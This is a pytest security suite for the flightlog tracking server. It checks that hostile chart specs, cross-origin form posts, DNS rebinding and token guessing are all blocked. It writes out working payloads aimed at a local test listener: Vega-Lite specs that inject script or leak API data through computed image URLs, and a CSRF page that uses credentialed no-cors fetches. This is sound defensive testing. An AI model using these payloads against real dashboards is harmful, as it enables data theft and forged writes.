"""What a hostile run, page or network name can make a viewer's browser do, tried with a
real server process, a real ``flightlog sync`` and Debian's chromium.

- A logged chart whose spec turns vega-embed's actions menu back on (``usermeta``),
  loads data from another loopback port, or sends ``/api`` data (and its own data) to
  another port through computed image URLs is drawn without any request leaving the
  server's origin and with no actions menu: on the server, in the offline report.
- A page on another port of 127.0.0.1 that posts frames through a logged-in browser (or
  to a tokenless server) is refused, and nothing is stored.
- Sessions: a new one per login, dead after logout (also after a restart); no token
  in URLs; a request for another host name is refused (DNS rebinding).

The "other port" is a real HTTP server in this process that records every request it
gets: the attacker's page is served from it, exfiltration would land on it.
"""

from __future__ import annotations

import base64
import html
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import httpx
import pytest
from flightlog.format._framing import encode_frame
from flightlog.format.segment import SegmentTail, list_segments
from ui_helpers import Proc, Server, run_cli
from waiting import wait_until

import flightlog
from flightlog.charts import Chart

TOKEN = "s3cret"
#: A logged HTML page with an inline script: it still runs (in its sandboxed frame) under
#: the pages' policies: served with its own, hashed into the report's.
SCRIPTED_HTML = ("<p id='s'>static</p>"
                 "<script>document.getElementById('s').textContent = 'ran'</script>")
XY = {"x": {"field": "x", "type": "quantitative"}, "y": {"field": "y", "type": "quantitative"}}


@dataclass
class Listener:
    """An HTTP server on another loopback port: serves ``pages``, records every request."""

    pages: dict[str, str] = field(default_factory=dict)
    hits: list[str] = field(default_factory=list)
    url: str = ""

    def start(self) -> ThreadingHTTPServer:
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                listener.hits.append(f"{self.command} {self.path}")
                page = listener.pages.get(urlparse(self.path).path)
                body = (page or "{}").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if page else "application/json")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args: Any) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def exfiltrated(self) -> list[str]:
        """Requests other than for the attacker's own pages."""
        return [h for h in self.hits if urlparse(h.split(" ", 1)[1]).path not in self.pages]


@dataclass
class Secured:
    server: Server  # with a token
    open_server: Server  # without one (what DNS rebinding and CSRF aim at)
    listener: Listener
    run_dir: Path
    run_id: str

    @property
    def url(self) -> str:
        return self.server.url


def malicious_charts(other: str) -> dict[str, Chart]:
    table = {"x": [1.0, 2.0, 3.0], "y": [10.0, 20.0, 30.0]}
    return {
        # vega-embed merges usermeta.embedOptions over the page's own options.
        "evil_embed": Chart(table, {"mark": "point", "encoding": XY, "usermeta": {
            "embedOptions": {"actions": True, "defaultStyle": True,
                             "sourceHeader": "<script>window.pwned = 1</script>",
                             "editorUrl": f"{other}/editor",
                             "loader": {"baseURL": other}}}}),
        "evil_data": Chart(table, {"layer": [
            {"mark": "point", "encoding": XY},
            {"data": {"url": f"{other}/data.json"}, "mark": "point", "encoding": XY}]}),
        "evil_image": Chart(table, {"layer": [
            {"mark": "point", "encoding": XY},
            # The viewer's /api data (same origin, with its cookie), sent to another port.
            {"data": {"url": "/api/v1/projects"},
             "transform": [{"calculate": f"'{other}/leak?p=' + datum.project", "as": "u"}],
             "mark": {"type": "image", "width": 8, "height": 8},
             "encoding": {"url": {"field": "u", "type": "nominal"},
                          "x": {"value": 5}, "y": {"value": 5}}},
            # The chart's own data, by computed image URLs and links: no constant to strip.
            {"transform": [{"calculate": f"'{other}/img?y=' + datum.y", "as": "u"}],
             "mark": {"type": "image", "width": 8, "height": 8},
             "encoding": {**XY, "url": {"field": "u", "type": "nominal"},
                          "href": {"field": "u", "type": "nominal"}}}]}),
    }


@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
    tmp = tmp_path_factory.mktemp("security")
    listener = Listener()
    http_server = listener.start()
    procs: list[Proc] = []
    server = Server(tmp / "server", procs, token=TOKEN).start()
    open_server = Server(tmp / "open", procs).start()
    run = flightlog.init(project="evil", name="evil", dir=tmp / "runs")
    run.log({"loss": 1.0})
    run.log(malicious_charts(listener.url))
    run.log({"page": flightlog.Html(SCRIPTED_HTML)})
    run.finish()
    result = run_cli("sync", run.dir, "--server", server.url, "--token", TOKEN,
                     "--state", tmp / "state", "--retry-for", "10")
    assert result.returncode == 0, result.stdout + result.stderr
    try:
        yield Secured(server, open_server, listener, Path(run.dir), Path(run.dir).name)
    finally:
        http_server.shutdown()
        http_server.server_close()
        for proc in procs:
            proc.kill()
            proc.close()


def log_in(browser: Any, url: str) -> Any:
    """A browser context logged in through the form; its page is on the projects page."""
    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
    page = ctx.new_page()
    page.goto(f"{url}/login")
    page.fill("input[name=token]", TOKEN)
    page.click("button[type=submit]")
    page.wait_for_selector("#app[data-ready]", timeout=20_000)
    return ctx


def session_of(ctx: Any) -> str:
    return str({c["name"]: c for c in ctx.cookies()}["flightlog_session"]["value"])


def assert_charts_drawn_safely(page: Any, origin_ok: Any, requests: list[str]) -> None:
    for name in ("evil_embed", "evil_data", "evil_image"):
        page.wait_for_function("(n) => { const el = document.querySelector("
                               "`.vega.logged[data-chart='${n}']`); return el && "
                               "el.dataset.drawn === '1'; }", arg=name, timeout=20_000)
    # The image layers' computed URLs reached the loader, which refused them.
    page.wait_for_function("() => flightlog.refusedLoads.some((u) => u.includes('/img?y='))",
                           timeout=20_000)
    assert page.locator(".vega-actions, details.vega-embed, .vega-embed details").count() == 0
    assert page.evaluate("window.pwned === undefined")
    removed = page.locator(".vega.logged[data-chart='evil_embed'] ~ .removed").inner_text()
    assert "/usermeta" in removed
    removed = page.locator(".vega.logged[data-chart='evil_data'] ~ .removed").inner_text()
    assert "/layer/1/data/url" in removed
    # Every mark the spec could draw from its inline data is there: only the reach out
    # was removed (3 points in each chart).
    points = page.evaluate("""() => flightlog.views.evil_data.scenegraph().root.items[0]
        .items.filter((g) => g.marktype === 'symbol').map((g) => g.items.length)""")
    assert 3 in points, points
    frame = page.frame_locator("[data-media='page'] iframe")
    frame.locator("#s", has_text="ran").wait_for(timeout=20_000)
    offsite = [u for u in requests if not origin_ok(u)]
    assert not offsite, offsite


def test_malicious_charts_reach_nothing_outside_the_server(secured: Secured,
                                                            browser: Any) -> None:
    ctx = log_in(browser, secured.url)
    requests: list[str] = []
    errors: list[str] = []
    try:
        page = ctx.new_page()
        page.on("request", lambda r: requests.append(r.url))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(f"{secured.url}/runs/evil/{secured.run_id}")
        page.wait_for_selector("#app[data-ready]", timeout=20_000)
        assert_charts_drawn_safely(page, lambda u: u.startswith(secured.url + "/"), requests)
        # The chart never asked for the viewer's /api data either.
        assert f"{secured.url}/api/v1/projects" not in requests
        csp = httpx.get(f"{secured.url}/runs/evil/{secured.run_id}", cookies={
            "flightlog_session": session_of(ctx)}).headers["content-security-policy"]
        assert "connect-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert "unsafe-eval" not in csp and "script-src 'self';" in csp
    finally:
        ctx.close()
    assert not secured.listener.exfiltrated(), secured.listener.hits
    assert not errors, errors


def test_served_specs_carry_no_url_usermeta_or_href(secured: Secured) -> None:
    """A client that draws the served spec as it is (not flightlog.js) is protected too."""
    charts = httpx.get(f"{secured.url}/api/v1/runs/evil/{secured.run_id}/charts",
                       headers={"Authorization": f"Bearer {TOKEN}"}).json()
    text = json.dumps({name: c["spec"] for name, c in charts.items()})
    assert "usermeta" not in text and '"href"' not in text
    assert secured.listener.url + "/data.json" not in text and "/api/v1/projects" not in text
    assert charts["evil_data"]["removed"] == ["/layer/1/data/url"]
    assert charts["evil_data"]["spec"]["layer"][1]["data"] == {"values": []}
    # The benign parts are intact: the inlined table and the encodings.
    assert charts["evil_embed"]["spec"]["data"]["values"][0] == {"x": 1.0, "y": 10.0}


def test_offline_report_has_a_csp_and_reaches_nothing(secured: Secured, browser: Any,
                                                      tmp_path: Path) -> None:
    out = tmp_path / "evil.html"
    result = run_cli("report", secured.run_dir, "-o", out)
    assert result.returncode == 0, result.stderr
    text = out.read_text()
    head = text[:text.index("<script")]
    assert '<meta http-equiv="Content-Security-Policy"' in head
    csp = head.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert "connect-src 'none'" in csp and "default-src 'none'" in csp
    assert "unsafe-eval" not in csp and "unsafe-inline' " not in csp.split("style-src")[0]
    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
    requests: list[str] = []
    errors: list[str] = []
    try:
        page = ctx.new_page()
        page.on("request", lambda r: requests.append(r.url))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(out.as_uri())
        page.wait_for_selector("#app[data-ready]", timeout=20_000)
        assert_charts_drawn_safely(page, lambda u: u.startswith(("file:", "data:")), requests)
    finally:
        ctx.close()
    assert not secured.listener.exfiltrated(), secured.listener.hits
    assert not errors, errors


def test_the_notebook_view_carries_the_report_policy(secured: Secured) -> None:
    from flightlog.format.localrun import open_run

    from flightlog.notebook import _page

    page = html.unescape(_page(open_run(secured.run_dir)))
    head = page[:page.index("<script")]
    assert "Content-Security-Policy" in head and "connect-src 'none'" in head
    data = page.split('id="flightlog-data">', 1)[1].split("</script>", 1)[0]
    assert '"usermeta":' not in data and secured.listener.url + "/data.json" not in data
    assert json.loads(data)["runs"][f"evil/{secured.run_id}"]["charts"]["evil_embed"][
        "removed"] == ["/usermeta"]


def _frames(root: Path, project: str) -> tuple[str, bytes]:
    """A real run's id and its first segment's frames (what the daemon would post)."""
    run = flightlog.init(project=project, name="forged", dir=root)
    for i in range(5):
        run.log({"x": float(i)})
    run.finish()
    path = list_segments(run.dir)[0][1]
    frames = b"".join(encode_frame(f.payload, first_seq=f.first_seq,
                                   record_count=f.record_count, flags=f.flags)
                      for f in SegmentTail(path).poll())
    return Path(run.dir).name, frames


ATTACK = """<!doctype html><html><body><script>
(async () => {
  const body = Uint8Array.from(atob("%(body)s"), (c) => c.charCodeAt(0));
  const target = "%(target)s";
  for (const type of ["text/plain", ""]) {  // both need no CORS preflight
    await fetch(target, { method: "POST", mode: "no-cors", credentials: "include",
      body: new Blob([body], type ? { type } : {}) }).catch(() => null);
  }
  document.title = "sent";
})();
</script></body></html>"""


@pytest.mark.parametrize("with_token", [True, False], ids=["logged-in", "tokenless"])
def test_a_page_on_another_port_cannot_post_frames(secured: Secured, browser: Any,
                                                   tmp_path: Path, with_token: bool) -> None:
    target_url = secured.url if with_token else secured.open_server.url
    run_id, frames = _frames(tmp_path / "runs", "forged")
    target = f"{target_url}/api/v1/runs/forged/{run_id}/frames?segment=0"
    secured.listener.pages["/attack.html"] = ATTACK % {
        "body": base64.b64encode(frames).decode(), "target": target}
    ctx = log_in(browser, secured.url) if with_token else browser.new_context()
    statuses: list[int] = []
    try:
        page = ctx.new_page()
        page.on("response", lambda r: statuses.append(r.status) if "/frames" in r.url else None)
        page.goto(f"{secured.listener.url}/attack.html")
        page.wait_for_function("() => document.title === 'sent'", timeout=20_000)
    finally:
        ctx.close()
    # The browser did send both (with the cookie, where there is one): refused, not stored.
    assert statuses == [403, 403], statuses
    headers = {"Authorization": f"Bearer {TOKEN}"} if with_token else {}
    assert httpx.get(f"{target_url}/api/v1/runs/forged/{run_id}/sync",
                     headers=headers).json()["next_seq"] == 0
    assert httpx.get(f"{target_url}/api/v1/runs", params={"project": "forged"},
                     headers=headers).json()["runs"] == []
    # A body type a page can send without a preflight is refused even with the token.
    answer = httpx.post(target, content=frames, headers={**headers, "Content-Type": "text/plain"})
    assert answer.status_code == 415, answer.text
    assert httpx.get(f"{target_url}/api/v1/runs/forged/{run_id}/sync",
                     headers=headers).json()["next_seq"] == 0


def test_each_login_gets_its_own_session_and_logout_ends_it(secured: Secured,
                                                            browser: Any) -> None:
    api = f"{secured.url}/api/v1/projects"
    first, second = log_in(browser, secured.url), log_in(browser, secured.url)
    try:
        one, two = session_of(first), session_of(second)
        assert one != two and TOKEN not in one
        assert httpx.get(api, cookies={"flightlog_session": one}).status_code == 200
        page = first.new_page()
        page.goto(f"{secured.url}/logout")
        page.click("button[type=submit]")
        page.wait_for_url("**/login")
        assert not [c for c in first.cookies() if c["name"] == "flightlog_session"]
    finally:
        first.close()
        second.close()
    # The logged-out session is dead wherever it was copied to; the other one lives.
    assert httpx.get(api, cookies={"flightlog_session": one}).status_code == 401
    assert httpx.get(api, cookies={"flightlog_session": two}).status_code == 200
    # A session cannot be stretched: its expiry is signed.
    version, sid, expiry, mac = two.split(".")
    stretched = ".".join([version, sid, str(int(expiry) + 10**6), mac])
    assert httpx.get(api, cookies={"flightlog_session": stretched}).status_code == 401
    # The revocation outlives the server process.
    secured.server.kill()
    secured.server.start()
    assert httpx.get(api, cookies={"flightlog_session": one}).status_code == 401
    assert httpx.get(api, cookies={"flightlog_session": two}).status_code == 200


def test_the_token_is_never_taken_from_a_url(secured: Secured) -> None:
    answer = httpx.get(f"{secured.url}/login", params={"token": TOKEN})
    assert answer.status_code == 400
    assert "set-cookie" not in answer.headers
    assert "not taken in a URL" in answer.text


def test_requests_for_another_host_name_are_refused(secured: Secured) -> None:
    """DNS rebinding: a page of evil.example resolving to 127.0.0.1 sends Host:
    evil.example. The tokenless server is the one it would read."""
    for url in (secured.open_server.url, secured.url):
        port = urlparse(url).port
        for host in ("evil.example", f"evil.example:{port}"):
            answer = httpx.get(f"{url}/api/v1/projects", headers={"Host": host})
            assert answer.status_code == 421, (url, host, answer.status_code)
            assert httpx.get(f"{url}/", headers={"Host": host}).status_code == 421
        for host in (f"localhost:{port}", f"127.0.0.1:{port}"):
            assert httpx.get(f"{url}/healthz", headers={"Host": host}).status_code == 200
    assert httpx.get(f"{secured.open_server.url}/api/v1/projects").status_code == 200


def test_guessing_the_token_is_throttled_per_address(tmp_path: Path,
                                                     procs: list[Proc]) -> None:
    server = Server(tmp_path / "server", procs, token=TOKEN,
                    env={"FLIGHTLOG_AUTH_FAILURES": "4", "FLIGHTLOG_AUTH_WINDOW": "3"}).start()
    runs = f"{server.url}/api/v1/projects"
    right = {"Authorization": f"Bearer {TOKEN}"}
    with httpx.Client(timeout=10.0) as http:
        # No credential at all is not a guess: never counted, never throttled.
        for _ in range(8):
            assert http.get(runs).status_code == 401
        assert http.get(runs, headers=right).status_code == 200
        # Wrong bearer tokens and wrong typed tokens count alike, up to the limit ...
        for _ in range(2):
            assert http.get(runs, headers={"Authorization": "Bearer guess"}).status_code == 401
        for _ in range(2):
            form = http.post(f"{server.url}/login", data={"token": "guess", "next": "/"},
                             headers={"Origin": server.url})
            assert form.status_code == 401 and "Wrong token" in form.text
        # ... then everything from this address is refused, even the right token, so a
        # blocked guesser cannot tell a right guess from a wrong one.
        blocked = http.get(runs, headers=right)
        assert blocked.status_code == 429, blocked.text
        assert 1 <= int(blocked.headers["Retry-After"]) <= 3
        assert "too many failed authentications" in blocked.json()["message"]
        login = http.post(f"{server.url}/login", data={"token": TOKEN, "next": "/"},
                          headers={"Origin": server.url})
        assert login.status_code == 429 and "Too many wrong tokens" in login.text
        assert "flightlog_session" not in login.cookies
        # Once the window has passed the right token works again.
        wait_until(lambda: http.get(runs, headers=right).status_code == 200, timeout=15.0,
                   what="the throttle to lift after its window", interval=0.2)
